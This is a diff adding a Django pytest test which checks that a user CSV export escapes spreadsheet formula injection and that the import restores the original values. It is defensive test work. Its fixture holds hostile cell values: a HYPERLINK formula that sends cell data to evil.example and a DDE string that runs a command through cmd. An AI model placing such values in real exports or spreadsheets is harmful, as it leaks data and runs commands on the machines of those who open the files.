@@ -392,3 +392,46 @@ def test_export_users_writes_csv_without_secrets(tmp_path, world):
         "member_a",
     }
     assert "password" not in rows[0]
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "first_name": "+1+cmd|' /C calc'!A0",
+    "last_name": "@SUM(1+1)",
+}
+
+
+def test_export_users_neutralises_formula_cells_and_import_reads_them_back(tmp_path, world):
+    UserFactory(username="formulas", email="formulas@example.com", **FORMULAS)
+    UserFactory(
+        username="quoted", email="quoted@example.com", name="'=already quoted", last_name="-5"
+    )
+    exported = tmp_path / "out.csv"
+
+    call_command("export_users", str(exported), stdout=io.StringIO(), stderr=io.StringIO())
+
+    rows = {row["username"]: row for row in csv.DictReader(exported.open())}
+    for field_name, value in FORMULAS.items():
+        assert rows["formulas"][field_name] == f"'{value}"
+    assert rows["quoted"]["name"] == "''=already quoted"
+    assert rows["quoted"]["last_name"] == "'-5"
+    assert rows["user_a"]["name"] == User.objects.get(username="user_a").name
+    reimport = tmp_path / "in.csv"
+    with reimport.open("w", newline="") as stream:
+        writer = csv.DictWriter(stream, fieldnames=["username", "email", "password", "name"])
+        writer.writeheader()
+        for username in ("formulas", "quoted"):
+            writer.writerow(
+                {
+                    "username": f"re_{username}",
+                    "email": f"re_{username}@example.com",
+                    "password": "'=SecurePass123",
+                    "name": rows[username]["name"],
+                }
+            )
+
+    call_command("import_users", str(reimport), stdout=io.StringIO(), stderr=io.StringIO())
+
+    assert User.objects.get(username="re_formulas").name == FORMULAS["name"]
+    assert User.objects.get(username="re_quoted").name == "'=already quoted"
+    assert User.objects.get(username="re_quoted").check_password("'=SecurePass123")
